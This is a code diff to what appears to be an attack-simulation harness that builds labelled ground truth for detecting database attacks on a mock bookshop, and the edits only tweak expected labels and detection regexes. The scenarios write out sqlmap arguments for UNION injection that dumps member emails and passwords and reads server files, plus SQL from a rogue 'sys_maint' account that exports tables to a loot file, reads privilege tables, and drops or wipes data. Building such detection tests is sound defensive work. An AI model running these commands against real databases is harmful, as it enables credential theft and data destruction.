@@ -246,7 +246,7 @@ def _injection(sim, db, app, truth):
          ["--technique=TS", "--time-sec=1", "--hostname"], ["time_delay", "stacked_statements"], [r"SLEEP\("]),
         ("2026-10-14 09:50", "shop-sqlmap-versioned", "sqlmap UNION hidden in MySQL's versioned comments: the members are dumped",
          ["--technique=U", "--union-cols=4", "--tamper=versionedmorekeywords", "-D", db.database, "-T", "members", "-C", "email,pass", "--dump"],
-         ["comment_obfuscation", "union_null_padding", "bulk_read"], [r"/\*!UNION\*/", r"bookshop\.members"]),
+         ["comment_obfuscation", "union_null_padding"], [r"/\*!UNION\*/", r"bookshop\.members"]),
         ("2026-10-14 10:15", "shop-sqlmap-file", "sqlmap reads a file of the server's through the hole",
          ["--technique=U", "--union-cols=4", "--file-read=/etc/hostname"], ["file_read"], [r"LOAD_FILE\("]),
     ]
@@ -285,13 +285,13 @@ def _thief(sim, db, truth):
     yield epoch("2026-10-14 19:52")
     with truth.attack("shop-bulk-read", "the new account reads whole tables and writes one to a file", "T1213", role="sys_maint", client=host,
                       database=db.database, expect=["new_role", "whole_table_read", "file_write", "dump_tool_shape"],
-                      contains=[r"sys_maint.*SELECT \* FROM members INTO OUTFILE", r"SELECT /\*!40001 SQL_NO_CACHE \*/ \* FROM `sales`"]):
+                      contains=[r"sys_maint.*SELECT \* FROM members INTO OUTFILE", r"SELECT /\*!40001 SQL_NO_CACHE \*/ .{0,200}FROM `sales`"]):
         db.mysql("sys_maint", host, f"SELECT * FROM members INTO OUTFILE '{db.folder}/data/loot.txt';\nSELECT * FROM mysql.global_priv;\n", password="n0b0dy")
         db.client(["mariadb-dump", "--no-tablespaces", "--skip-lock-tables", db.database, "members", "sales"], "sys_maint", host, password="n0b0dy")
     yield epoch("2026-10-14 20:10")
     with truth.attack("shop-destruction", "tables are dropped, emptied and overwritten", "T1485", role="sys_maint", client=host, database=db.database,
                       expect=["schema_drop", "truncate", "missing_where"],
-                      contains=[r"DROP TABLE sales_archive", r"TRUNCATE TABLE comments", r"UPDATE members SET pass = ''"]):
+                      contains=[r"DROP TABLE sales_archive", r"TRUNCATE TABLE comments", r"UPDATE members SET pass = \\'\\'"]):
         db.mysql("sys_maint", host, "DROP TABLE sales_archive;\nTRUNCATE TABLE comments;\nUPDATE members SET pass = '';\nDELETE FROM mail_queue;\n",
                  password="n0b0dy")
     yield epoch("2026-10-14 20:16")
